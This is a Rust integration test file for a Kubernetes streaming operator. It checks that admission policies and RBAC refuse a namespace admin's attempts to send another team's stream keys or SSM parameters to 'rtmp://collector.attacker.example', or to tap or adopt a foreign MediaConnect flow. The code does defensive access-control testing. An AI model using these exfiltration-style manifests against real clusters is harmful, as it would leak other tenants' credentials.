//! Who may use what: the admission policies of `deploy/base` with the roles of `examples/roles.yaml`. Mallory has all that a
//! namespace can give: Kubernetes' `admin` and `playout-admin`. What is another team's he may not touch.

use std::collections::{BTreeMap, BTreeSet};

use anyhow::{Context as _, Result, ensure};
use playout_stage::{Cluster, Output, kubectl, kubectl_with_input, wait_until};
use serde_json::{Value, json};

use super::{PATIENCE, crds, folder, in_namespace, namespace, object, schema, walk};

const PARAMETER: &str = "/live/team-a/youtube";
const FLOW: &str = "arn:aws:mediaconnect:us-west-2:123456789012:flow:1-23aBC45dEF67hiJ8-12AbC34DE5fG:Newsroom";
const AWS_SECRET: &str = "arn:aws:secretsmanager:us-west-2:123456789012:secret:live/team-a-AbCdEf";

/// One user in a namespace of his own, on an API server that has the policies.
struct Tenant<'a> {
    cluster: &'a Cluster,
    namespace: String,
    user: String,
}

impl<'a> Tenant<'a> {
    /// The user has these ClusterRoles in the namespace.
    async fn new(cluster: &'a Cluster, name: &str, roles: &[&str]) -> Result<Self> {
        let rendered = kubectl(cluster, ["kustomize", &folder("deploy/base").display().to_string()])?.ok()?.stdout;
        let policies: Vec<_> =
            rendered.split("\n---\n").filter(|one| one.contains("kind: ValidatingAdmissionPolicy")).collect();
        kubectl_with_input(cluster, ["apply", "--server-side", "-f", "-"], &policies.join("\n---\n"))?.ok()?;
        let namespace = namespace(cluster, name)?;
        let tenant = Self { cluster, user: format!("mallory-{name}"), namespace };
        let file = folder("examples/roles.yaml").display().to_string();
        tenant.as_admin(&format!("apply -f {file}"), "")?.ok()?;
        for role in roles {
            tenant
                .as_admin(&format!("create rolebinding {role} --clusterrole={role} --user={}", tenant.user), "")?
                .ok()?;
        }
        // The API server takes a policy up when it sees it. Nobody may use this one anywhere.
        wait_until(PATIENCE, "the policies are in force", || async {
            let refused = |manifest: &str| {
                tenant.run("create --dry-run=server -f -", manifest).map(|o| o.stderr.contains("may not"))
            };
            Ok::<_, anyhow::Error>(
                refused(&destination("probe", &json!({ "streamKey": { "ssmParameter": "/nobodys" } })))?
                    && (refused(&reference("probe", "Reference"))? || !roles.contains(&"playout-admin")),
            )
        })
        .await?;
        Ok(tenant)
    }

    fn as_admin(&self, args: &str, input: &str) -> Result<Output> {
        in_namespace(self.cluster, &self.namespace, args, input)
    }

    fn run(&self, args: &str, input: &str) -> Result<Output> {
        self.as_admin(&format!("{args} --as={}", self.user), input)
    }

    fn patch(&self, object: &str, spec: &Value) -> Result<Output> {
        let patch = json!({ "spec": spec }).to_string();
        let args = ["-n", &self.namespace, "patch", object, "--type=merge", "-p", &patch, "--as", &self.user];
        kubectl(self.cluster, args)
    }

    /// Those who manage the cluster let the user do this here.
    fn granted(&self, verb: &str, resource: &str, name: &str) -> Result<()> {
        let rule = if resource == "secrets" { "" } else { "playout.dev" };
        let role = json!({
            "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role", "metadata": { "name": format!("{verb}-{resource}") },
            "rules": [{ "apiGroups": [rule], "resources": [resource], "resourceNames": [name], "verbs": [verb] }],
        });
        self.as_admin("apply -f -", &role.to_string())?.ok()?;
        let binding = format!("create rolebinding {verb}-{resource} --role={verb}-{resource} --user={}", self.user);
        self.as_admin(&binding, "")?.ok().map(drop)
    }

    /// It is taken, as soon as the API server has seen the right that was given last.
    async fn may(&self, args: &str, manifest: &str) -> Result<()> {
        wait_until(PATIENCE, "what was granted may be done", || async { self.run(args, manifest)?.ok().map(drop) })
            .await
    }
}

fn refused(output: &Output, with: &[&str]) -> Result<()> {
    ensure!(!output.success, "it was taken: {output:?}");
    for text in with {
        ensure!(output.stderr.contains(text), "no {text:?} in {}", output.stderr);
    }
    Ok(())
}

/// To the attacker's own host, unless `spec` says otherwise.
fn destination(name: &str, spec: &Value) -> String {
    let mut all = json!({ "from": { "name": "studio" }, "url": "rtmp://collector.attacker.example:1935/app" });
    for (field, value) in spec.as_object().into_iter().flatten() {
        all[field] = value.clone();
    }
    object("Destination", name, all)
}

fn reference(name: &str, policy: &str) -> String {
    let mut spec = json!({ "external": { "arn": FLOW, "policy": policy } });
    if policy == "Adopt" {
        spec["inputs"] = json!([input("srtListener", json!({}))]);
        spec["state"] = "Stopped".into();
    }
    object("Source", name, spec)
}

fn input(block: &str, mut settings: Value) -> Value {
    let mut protocol = block.to_owned();
    protocol[..1].make_ascii_uppercase();
    let needed: &[(&str, Value)] = match block {
        "srtCaller" => &[("address", json!("encoder.example.net")), ("port", json!(5000))],
        "srtListener" => &[("allowedCidr", json!("203.0.113.0/24")), ("port", json!(5000))],
        "rtmp" => &[("allowedCidr", json!("203.0.113.0/24")), ("applicationName", json!("live"))],
        _ => &[("allowedCidr", json!("203.0.113.0/24"))],
    };
    for (field, value) in needed {
        settings[*field] = value.clone();
    }
    json!({ "name": "main", "priority": "Primary", "protocol": protocol, block: settings })
}

#[tokio::test]
async fn another_teams_parameter_cannot_be_sent_to_ones_own_host() -> Result<()> {
    let Some(cluster) = Cluster::shared() else { return Ok(()) };
    let mallory = Tenant::new(cluster, "parameter", &["admin", "playout-admin"]).await?;
    let stolen = destination("stolen", &json!({ "streamKey": { "ssmParameter": PARAMETER } }));
    let said = mallory.run("create -f -", &stolen)?;
    refused(
        &said,
        &[
            "Forbidden",
            "mallory-parameter may not use SSM parameter /live/team-a/youtube (parameters.playout.dev) in namespace",
        ],
    )?;
    // Nor can he give himself the right.
    let namespace = mallory.namespace.clone();
    let grant = json!({ "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role", "metadata": { "name": "grant" },
        "rules": [{ "apiGroups": ["playout.dev"], "resources": ["parameters"], "verbs": ["use"] }] });
    refused(
        &mallory.run("create -f -", &grant.to_string())?,
        &["attempting to grant RBAC permissions not currently held"],
    )?;
    let bind = format!("create rolebinding grant --role=playout-account --user=mallory-parameter -n {namespace}");
    refused(&mallory.run(&bind, "")?, &["attempting to grant RBAC permissions not currently held"])?;
    // What he was granted he may do, and nothing beside.
    mallory.granted("use", "parameters", "/live/team-b/twitch")?;
    let own = destination("own", &json!({ "streamKey": { "ssmParameter": "/live/team-b/twitch" } }));
    mallory.may("create -f -", &own).await?;
    refused(&mallory.patch("dest/own", &json!({ "streamKey": { "ssmParameter": PARAMETER } }))?, &[PARAMETER])?;
    Ok(())
}

#[tokio::test]
async fn a_foreign_flow_cannot_be_tapped() -> Result<()> {
    let Some(cluster) = Cluster::shared() else { return Ok(()) };
    let mallory = Tenant::new(cluster, "tap", &["admin", "playout-admin"]).await?;
    let tap = reference("tap", "Reference");
    let said = mallory.run("create -f -", &tap)?;
    refused(&said, &["Forbidden", "may not reference flow", FLOW, "(flows.playout.dev)"])?;
    mallory.granted("reference", "flows", FLOW)?;
    mallory.may("create -f -", &tap).await?;
    // To look at it is not to take it.
    let inputs = json!([input("srtListener", json!({}))]);
    let taken = mallory.patch("src/tap", &json!({ "external": { "policy": "Adopt" }, "inputs": inputs }))?;
    refused(&taken, &["may not adopt flow"])?;
    Ok(())
}

#[tokio::test]
async fn a_foreign_flow_cannot_be_adopted_stopped_and_deleted() -> Result<()> {
    let Some(cluster) = Cluster::shared() else { return Ok(()) };
    let mallory = Tenant::new(cluster, "adopt", &["admin", "playout-admin"]).await?;
    let adopt = reference("taken", "Adopt");
    let said = mallory.run("create -f -", &adopt)?;
    refused(&said, &["Forbidden", "may not adopt flow", FLOW, "(flows.playout.dev)"])?;
    mallory.granted("adopt", "flows", FLOW)?;
    mallory.may("create -f -", &adopt).await?;
    Ok(())
}

/// A producer uses the keys that were given to him, without seeing them; he does not send them to another place.
#[tokio::test]
async fn a_producer_uses_the_keys_that_the_shipped_role_names() -> Result<()> {
    let Some(cluster) = Cluster::shared() else { return Ok(()) };
    let producer = Tenant::new(cluster, "producer", &["playout-producer"]).await?;
    let key = |name: &str| json!({ "streamKey": { "secretRef": { "name": name, "key": "streamKey" } } });
    let twitch = destination("twitch", &key("twitch"));
    refused(&producer.run("create -f -", &twitch)?, &["may not use Secret twitch in namespace"])?;
    producer.as_admin(&format!("create rolebinding use --role=playout-use --user={}", producer.user), "")?.ok()?;
    producer.may("create -f -", &twitch).await?;
    refused(&producer.run("create -f -", &destination("other", &key("database")))?, &["may not use Secret database"])?;
    refused(&producer.run("get secret twitch", "")?, &["Forbidden"])?;

    // One that an admin has made is his to start and stop.
    producer.as_admin("create -f -", &destination("made-by-admin", &key("database")))?.ok()?;
    let spec = json!({ "state": "Running", "updatePolicy": "Restart", "suspend": true });
    producer.patch("dest/made-by-admin", &spec)?.ok()?;
    let annotate = "annotate dest/made-by-admin playout.dev/reconcile-at=now";
    producer.run(annotate, "")?.ok()?;
    let backup =
        json!({ "mode": "OnFailure", "url": "rtmp://b.example.net/app", "streamKey": key("twitch")["streamKey"] });
    producer.patch("dest/made-by-admin", &json!({ "backup": backup }))?.ok()?;
    producer.patch("dest/made-by-admin", &json!({ "backup": null }))?.ok()?;
    for spec in [
        json!({ "url": "rtmp://collector.attacker.example:1935/other" }),
        json!({ "platform": "Twitch" }),
        json!({ "streamKey": { "secretRef": { "key": "another" } } }),
        json!({ "backup": { "mode": "Hot", "url": "rtmp://b.example.net/app", "streamKey": key("database")["streamKey"] } }),
    ] {
        refused(&producer.patch("dest/made-by-admin", &spec)?, &["may not use Secret database"])?;
    }
    Ok(())
}

/// Every field of the CRDs that names a Secret, a parameter or an ARN is asked about.
#[tokio::test]
async fn every_field_that_names_a_secret_a_parameter_or_an_arn_is_asked_about() -> Result<()> {
    let Some(cluster) = Cluster::shared() else { return Ok(()) };
    // An admin of Sources who has no Secret at all.
    let namespace_admin = Tenant::new(cluster, "fields", &["admin", "playout-admin"]).await?;
    let tenant = Tenant { user: "fields-maker".into(), ..namespace_admin };
    let role =
        "create role maker --verb=create,update,patch,get --resource=sources.playout.dev,destinations.playout.dev";
    tenant.as_admin(role, "")?.ok()?;
    tenant.as_admin(&format!("create rolebinding maker --role=maker --user={}", tenant.user), "")?.ok()?;

    let secret = json!({ "name": "theirs", "key": "streamKey" });
    let of_key = |field: &str| match field {
        "secretRef" => json!({ "secretRef": secret }),
        _ => json!({ field: PARAMETER }),
    };
    let encryption = |field: &str| match field {
        "passwordSecretRef" => json!({ field: secret }),
        _ => json!({ field: AWS_SECRET }),
    };
    let plain = json!({ "ssmParameter": "/live/granted" });
    let mut objects: BTreeMap<String, String> = BTreeMap::new();
    for field in ["secretRef", "ssmParameter"] {
        objects
            .insert(format!("destination.streamKey.{field}"), destination("x", &json!({ "streamKey": of_key(field) })));
        let backup = json!({ "mode": "Hot", "url": "rtmp://b.example.net/app", "streamKey": of_key(field) });
        objects.insert(
            format!("destination.backup.streamKey.{field}"),
            destination("x", &json!({ "streamKey": plain, "backup": backup })),
        );
        let rtmp = input("rtmp", json!({ "streamKey": of_key(field) }));
        objects.insert(
            format!("source.inputs[].rtmp.streamKey.{field}"),
            object("Source", "x", json!({ "inputs": [rtmp] })),
        );
    }
    let login =
        |password: Value| json!({ "delivery": "Transcode", "streamKey": plain, "username": "u", "password": password });
    objects.insert("destination.password.ssmParameter".into(), destination("x", &login(of_key("ssmParameter"))));
    let mut with_backup = login(plain.clone());
    with_backup["backup"] = json!({ "mode": "Hot", "url": "rtmp://b.example.net/app", "streamKey": plain,
        "username": "u", "password": of_key("ssmParameter") });
    objects.insert("destination.backup.password.ssmParameter".into(), destination("x", &with_backup));
    for field in ["passwordSecretRef", "passwordSecretArn"] {
        let spec =
            json!({ "from": { "name": "studio" }, "url": "srt://r.example.net:9000", "encryption": encryption(field) });
        objects.insert(format!("destination.encryption.{field}"), object("Destination", "x", spec));
        for block in ["srtListener", "srtCaller", "zixiPush"] {
            let one = input(block, json!({ "encryption": encryption(field) }));
            let manifest = object("Source", "x", json!({ "inputs": [one] }));
            objects.insert(format!("source.inputs[].{block}.encryption.{field}"), manifest);
        }
    }
    objects.insert("source.external.arn".into(), reference("x", "Reference"));

    // Which the schema refuses anyway: MediaLive reads parameters only.
    let refused_by_schema = ["destination.password.secretRef", "destination.backup.password.secretRef"];
    let mut fields = BTreeSet::new();
    for crd in &crds()? {
        let kind = crd["spec"]["names"]["singular"].as_str().context("a name")?;
        walk(&schema(crd)["properties"]["spec"], kind, &mut |path, _| {
            let name = path.rsplit('.').next().unwrap_or_default();
            let names_one =
                name.ends_with("ecretRef") || name == "ssmParameter" || name.to_lowercase().ends_with("arn");
            if names_one && !refused_by_schema.contains(&path) {
                fields.insert(path.to_owned());
            }
        });
    }
    ensure!(fields == objects.keys().cloned().collect(), "fields without an object here: {fields:?}");

    tenant.granted("use", "parameters", "/live/granted")?;
    tenant.may("create --dry-run=server -f -", &destination("x", &json!({ "streamKey": plain }))).await?;
    for (field, manifest) in &objects {
        let dry = "create --dry-run=server -f -";
        tenant.as_admin(dry, manifest)?.ok().with_context(|| format!("{field}: not valid at all"))?;
        refused(&tenant.run(dry, manifest)?, &["Forbidden", "fields-maker may not"]).with_context(|| field.clone())?;
        // One that is there is changed by others where the change has nothing to do with it.
        let (kind, live) = (field.split('.').next().unwrap_or_default(), manifest.replace("\"x\"", "\"there\""));
        tenant.as_admin("create -f -", &live)?.ok()?;
        let object = format!("{kind}/there");
        tenant.patch(&object, &json!({ "deletionPolicy": "Retain" }))?.ok().with_context(|| field.clone())?;
        tenant.as_admin(&format!("delete {object}"), "")?.ok()?;
    }
    Ok(())
}

/// Argo CD writes as an account of the team: `deploy/argocd/team.yaml`.
#[tokio::test]
async fn argo_cd_may_do_what_the_account_of_the_team_was_granted() -> Result<()> {
    let Some(cluster) = Cluster::shared() else { return Ok(()) };
    let team = Tenant::new(cluster, "argo", &["admin", "playout-admin"]).await?;
    let text = std::fs::read_to_string(folder("deploy/argocd/team.yaml"))?;
    let text = text.replace("namespace: live", &format!("namespace: {}", team.namespace));
    let (projects, access): (Vec<_>, Vec<_>) = text.split("\n---\n").partition(|one| one.contains("kind: AppProject"));
    team.as_admin("apply --validate=strict -f -", &access.join("\n---\n"))?.ok()?;
    let project: Value = serde_saphyr::from_str(projects.first().context("a project")?)?;
    let accounts = project["spec"]["destinationServiceAccounts"].as_array().context("accounts")?;
    let account = accounts[0]["defaultServiceAccount"].as_str().context("an account")?;
    ensure!(accounts.len() == 1 && accounts[0]["namespace"] == team.namespace.as_str());

    let argo = Tenant { user: format!("system:serviceaccount:{}:{account}", team.namespace), ..team };
    let apply = "apply --server-side --dry-run=server --field-manager=argocd-controller -f -";
    let own = std::fs::read_to_string(folder("examples/source-external-reference.yaml"))?;
    argo.may(apply, &own).await?;
    refused(&argo.run(apply, &reference("tap", "Reference"))?, &["may not reference flow", FLOW])?;
    let stolen = destination("stolen", &json!({ "streamKey": { "ssmParameter": PARAMETER } }));
    refused(&argo.run(apply, &stolen)?, &["may not use SSM parameter", PARAMETER])
}
